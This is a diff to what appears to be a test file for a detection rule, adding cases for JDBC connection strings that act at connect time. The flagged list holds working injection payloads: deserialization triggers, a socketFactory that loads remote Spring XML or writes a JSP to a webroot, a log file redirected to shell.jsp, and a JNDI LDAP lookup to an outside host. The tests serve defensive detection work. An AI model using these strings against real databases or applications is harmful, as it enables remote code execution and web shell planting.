@@ -249,6 +249,7 @@ describe('Java: JDBC connection strings that act at connect', () => {
       'jdbc:mysql://203.0.113.9:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor',
       'jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://203.0.113.9/b.xml',
       'jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=../webapps/ROOT/shell.jsp',
+      'jdbc:postgresql://db/x?socketFactory=java.io.FileOutputStream&socketFactoryArg=/var/www/html/x.jsp',
       'jdbc:db2://db:50000/BLUDB:clientRerouteServerListJNDIName=ldap://203.0.113.9:1389/a;',
     ])
       expect({ url, ids: idsOf(url, 'body_json', 'url') }).toEqual({ url, ids: expect.arrayContaining([420116]) });
@@ -257,6 +258,7 @@ describe('Java: JDBC connection strings that act at connect', () => {
       "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'classpath-data.sql'",
       'jdbc:mysql://db:3306/shop?useSSL=true&serverTimezone=UTC',
       'jdbc:postgresql://db/x?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory',
+      'jdbc:postgresql://db/x?ssl=true&sslfactory=javax.net.ssl.SSLSocketFactory',
     ])
       expect({ url, ids: idsOf(url, 'body_json', 'url').filter((id) => id === 420116) }).toEqual({ url, ids: [] });
   });
